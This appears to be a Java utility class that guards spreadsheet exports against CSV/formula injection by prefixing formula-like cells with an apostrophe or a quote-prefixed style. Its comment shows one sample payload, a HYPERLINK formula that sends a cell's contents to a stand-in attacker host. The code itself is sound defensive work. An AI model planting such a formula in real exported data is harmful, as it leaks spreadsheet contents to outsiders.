package org.puente.web;

import java.util.List;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellStyle;
import org.apache.poi.ss.usermodel.Workbook;

/**
 * Exported cells that a spreadsheet would run as a formula — text starting with {@code = + - @}, a tab or a
 * carriage return, as OWASP's CSV-injection advice lists — are neutralised: in CSV with a leading apostrophe, in
 * XLSX as quote-prefixed text (shown as typed, never evaluated). A progress note like
 * {@code =HYPERLINK("http://evil.example/?"&A1,"click")} then reads as the text it is.
 */
public final class SpreadsheetCells {

	private static final List<Character> TRIGGERS = List.of('=', '+', '-', '@', '\t', '\r');

	private SpreadsheetCells() {
	}

	public static boolean isFormulaLike(String text) {
		return !text.isEmpty() && TRIGGERS.contains(text.charAt(0));
	}

	/** The text for a CSV cell. */
	public static String csv(Object value) {
		String text = String.valueOf(value);
		return isFormulaLike(text) ? "'" + text : text;
	}

	/** Writes text into an XLSX cell, quote-prefixed when it looks like a formula. */
	public static void text(Cell cell, String text, Quoted quoted) {
		cell.setCellValue(text);
		if (isFormulaLike(text)) {
			cell.setCellStyle(quoted.style());
		}
	}

	/** One quote-prefixed style per workbook (workbooks limit how many styles they hold). */
	public static final class Quoted {

		private final Workbook book;

		private CellStyle style;

		public Quoted(Workbook book) {
			this.book = book;
		}

		CellStyle style() {
			if (style == null) {
				style = book.createCellStyle();
				style.setQuotePrefixed(true);
			}
			return style;
		}
	}
}
